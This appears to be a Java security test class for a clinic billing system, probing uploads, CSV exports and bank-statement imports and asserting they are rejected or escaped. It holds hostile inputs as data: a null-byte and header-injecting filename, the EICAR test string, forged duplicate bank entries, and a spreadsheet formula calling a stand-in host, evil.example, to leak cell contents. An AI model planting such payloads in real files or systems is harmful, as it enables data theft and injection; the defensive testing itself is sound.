package health.mizan.attacks;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import health.mizan.sandbox.demo.Guest;
import health.mizan.sandbox.demo.Visit;
import health.mizan.testing.RawHttp.Answer;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.UUID;

/** Files that come in, and files that go out. */
final class FileAttacks implements Surface {

    private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*";
    private static final String PAYERS = "code,kind,name_en,name_ar,administered_by,identifiers,status\n"
            + "ATTACKS,insurer,Lawful Insurer,شركة تأمين,,,active\n";

    private static final List<String> STATEMENT_DOORS = List.of(
            "/api/bank-statements",
            "/api/imports/bank-statements",
            "/api/imports/payers",
            "/api/desk-payments",
            "/fhir",
            "/fhir/PaymentReconciliation",
            "/fhir/$process-message",
            "/webhooks/card");

    @Override
    public String name() {
        return "uploads/exports/files";
    }

    @Override
    public void bind(Bindings to) {
        to.live(
                "UP-011",
                "claims take no documents; the only upload is a CSV of master data, by an administrator",
                attack -> {
                    attack.alsoAccepts(403, "not for patients to upload")
                            .alsoAccepts(404, "no such address")
                            .alsoAccepts(405, "no such act")
                            .alsoAccepts(415, "no such type");
                    for (String who : new String[] {"patientA", "adminF1"}) {
                        attack.send(
                                upload("a.pdf\u0000.html\r\nX: y", "%PDF-1.7").as(attack.token(who)));
                    }
                    attack.send(attack.shot().to("POST", "/api/claims/" + attack.fill("{uuid}") + "/documents"));
                });
        to.live("UP-015", "as a CSV of each kind, by an administrator", attack -> {
            for (String kind : new String[] {"patients", "payers", "services"}) {
                attack.send(new Shot("POST", "/api/imports/" + kind)
                        .body("text/csv", EICAR.getBytes(UTF_8))
                        .as(attack.token("adminF1")));
            }
            attack.alsoAccepts(403, "not for patients to upload")
                    .send(upload("eicar.pdf", EICAR).as(attack.token("patientA")));
        });
        to.live(
                "UP-023",
                "as the names of a patient who owes money, in the list that the office takes away; a tab begins no name",
                FileAttacks::formulaInAName);
        to.byTest(
                "UP-029",
                "a payer's list of what it pays comes by message: told again it is one list, and one alarm",
                "health.mizan.fhir.works.PaymentListsByMessageTest",
                "told_again_under_its_number_it_is_one_list_and_one_alarm");
        to.live(
                "UP-031",
                "no bank statement is taken in: told at every door through which files, messages and notices come, it moves"
                        + " nothing",
                FileAttacks::bankStatement);
    }

    private static void formulaInAName(Attack attack) throws IOException {
        attack.changes();
        Clinic clinic = attack.clinic();
        assertThatThrownBy(() -> named(clinic, "\t=1+1", "\t=1+1")).hasMessageContaining("got 422");
        Guest guest = named(clinic, "=1+1", "=HYPERLINK(\"http://evil.example/\"&A1)");
        Visit visit = Visit.begin(clinic.places, clinic.staff, guest, "DS-100");
        visit.finish();
        String number = visit.invoice("issued").path("number").asText();
        String office = SessionAttacks.cookies(SessionAttacks.signedIn(attack, "biller"));
        for (String language : new String[] {"en", "ar"}) {
            Answer file = attack.send(Shot.get("/" + language + "/office/invoices.csv?state=unpaid")
                    .header("Cookie", office));
            assertThat(file.header("Content-Type")).startsWith("text/csv");
            assertThat(file.header("Content-Disposition")).matches("attachment; filename=\"unpaid-[0-9-]+\\.csv\"");
            assertThat(file.header("Cache-Control")).contains("no-store");
            assertThat(cells(file.text())).noneMatch(cell -> cell.matches("(?s)[\\s\uFEFF]*[=+@\\t\\r-].*"));
            assertThat(file.text()).contains(number).containsPattern("'[^\"]*=(1\\+1|HYPERLINK)");
        }
    }

    private static List<String> cells(String csv) throws IOException {
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv)) {
            return reader.stream().flatMap(row -> row.getFields().stream()).toList();
        }
    }

    private static Guest named(Clinic clinic, String latin, String arabic) {
        Guest guest = new Guest("https://example.org/identifier/demo-iqama", "DEMO-2-" + UUID.randomUUID(), "");
        clinic.staff
                .desk()
                .post(
                        "/api/patients",
                        Map.of(
                                "patient",
                                Map.of(
                                        "name", Map.of("latin", latin, "arabic", arabic),
                                        "birth", Map.of("date", "1986-11-02"),
                                        "sex", "male",
                                        "residency", "resident",
                                        "identifiers",
                                                List.of(Map.of("system", guest.system(), "value", guest.number()))),
                                "registration",
                                Map.of("facility", "RUH")));
        return guest;
    }

    @Override
    public String twin() {
        return "an administrator tries an import out";
    }

    @Override
    public void runTwin(Attack lawful) throws IOException {
        assertThat(lawful.send(new Shot("POST", "/api/imports/payers?dry-run=true")
                                .body("text/csv", PAYERS.getBytes(UTF_8))
                                .as(lawful.token("adminF1")))
                        .text())
                .contains("\"rows\":1");
    }

    private static void bankStatement(Attack attack) throws IOException {
        attack.alsoAccepts(401, "not signed by a gateway")
                .alsoAccepts(403, "nothing of the kind is open to it")
                .alsoAccepts(404, "no such address")
                .alsoAccepts(405, "no such act")
                .alsoAccepts(415, "nothing here takes such a body");
        for (String who : new String[] {"financeF1", "adminF1", "payerClient"}) {
            for (String door : STATEMENT_DOORS) {
                attack.send(new Shot("POST", door)
                        .once()
                        .body("application/xml", statement(attack).getBytes(UTF_8))
                        .as(attack.token(who)));
            }
        }
    }

    /** A day of a bank, camt.053: what is open of A's bill came twice under one reference, and once went away. */
    private static String statement(Attack attack) {
        String bill = attack.clinic().id("inv.A");
        String entry = """
                <Ntry><Amt Ccy="SAR">%s</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><AcctSvcrRef>N-1</AcctSvcrRef>
                <NtryDtls><TxDtls><Refs><EndToEndId>%s</EndToEndId></Refs></TxDtls></NtryDtls></Ntry>
                """;
        String came = entry.formatted(attack.clinic().id("inv.A.balance"), bill);
        return "<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.053.001.08\"><BkToCstmrStmt><Stmt>" + came + came
                + entry.formatted("-60.00", bill) + "</Stmt></BkToCstmrStmt></Document>";
    }

    private static Shot upload(String name, String content) {
        String body = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"\r\n"
                + "Content-Type: text/csv\r\n\r\n" + content + "\r\n--b--\r\n";
        return new Shot("POST", "/api/imports/payers").body("multipart/form-data; boundary=b", body.getBytes(UTF_8));
    }
}
